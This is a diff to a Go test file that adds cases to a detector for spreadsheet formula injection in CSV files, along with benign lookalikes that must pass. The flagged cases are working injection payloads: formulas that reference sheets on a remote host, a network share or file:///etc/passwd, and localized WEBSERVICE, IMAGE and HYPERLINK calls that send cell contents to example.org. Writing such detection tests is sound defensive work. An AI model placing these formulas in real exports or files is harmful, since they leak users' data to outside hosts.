@@ -45,7 +45,20 @@ func tableTricks() []Case {
 	runs("with-a-picture-of-a-cells-address-behind-a-plus.csv", "\"https://example.org/\",+IMAGE(A1)\n")
 	runs("with-a-picture-function-that-is-handed-on.csv", "https://example.org/,\"=MAP(A1,IMAGE)\"\n")
 	runs("with-a-function-in-wide-letters.csv", "https://example.org/,=ＷＥＢＳＥＲＶＩＣＥ(A1)\n")
+	runs("with-a-sheet-of-another-computer.csv", "a,b\n1,\"='http://example.org/x.csv'#$x.A1\"\n")
+	runs("with-a-sheet-of-a-share.csv", "a,b\n1,='\\\\example.org\\s\\[x.xls]S'!A1\n")
+	runs("with-a-sheet-of-a-file.csv", "a,b\n1,=1+'file:///etc/passwd'#$passwd.A1\n")
+	runs("with-a-sheet-that-is-named-by-a-text.csv", "a,b\n1,\"=INDIRECT(\"\"'\\\\example.org\\s\\[x.xls]S'!A1\"\")\"\n")
+	for _, call := range []string{"WEBTJENESTE(A1)", "NETTJENESTE(A1)", "WEBBTJÄNST(A1)", "VERKKOPALVELU(A1)", "WEBSZOLGÁLTATÁS(A1)", "RDTR(\"x\";;\"y\")", "VIA(\"x\";;\"y\")",
+		"DATITEMPOREALE(\"x\";;\"y\")", "DANE.CZASU.RZECZ(\"x\";;\"y\")", "GZV(\"x\";;\"y\")", "ДРВ(\"x\";;\"y\")", "OBRÁZEK(\"https://example.org/?\"&A1)", "RESİM(\"https://example.org/?\"&A1)",
+		"HYPERLINKKI(\"https://example.org/?\"&A1)", "HYPERTEXTOVÝ.ODKAZ(\"https://example.org/?\"&A1)"} {
+		name, _, _ := strings.Cut(call, "(")
+		runs("of-a-language-with-"+strings.ToLower(name)+".csv", "a;b\n1;="+call+"\n")
+	}
 
+	fine("of-numbers-and-bars.csv", "id|delta|comment\n1|-5|'Great'! Loved it|x\n1|-5|\"'Great'! Loved it\"|x\n2|-b|'wow'!|x\n")
+	fine("with-names-behind-dashes.csv", "desc,amt\n- DDE (\"Direct Debit\") fee,5\nShell (petrol station),-Shell(\"Main St\")\n- via (\"post\"),1\n")
+	fine("with-sheets-beside.csv", "a,b\n='My sheet'!A1,='[Book2.xlsx]Sheet'!A1\n='C:\\a\\[b.xlsx]S'!A1,\"- see 'http://example.org/'! Great\"\n")
 	fine("with-bars-and-cells-behind-signs.csv", "a,b\n-a|b! c1,- cmd|x!A0 (image(a2 of it))\n+image (a2),-image(s)\n=IF(A1=1;image;2),-1\n")
 	fine("with-lists-of-commands.csv", "step,note\n1,- exec(\"make\")\n2,\"- call (\"\"me\"\"), + shell(\"\"ls -l\"\")\"\n3,- register(\"a\") first\n")
 	fine("with-remarks.csv", "a,b\n=A1+4,\"-- (see call (2))\"\n-1.5,\"- (a|b), call (me)!\"\n+49 (30) 1234,@jane\njane@example.com,(exec(utive))\n")
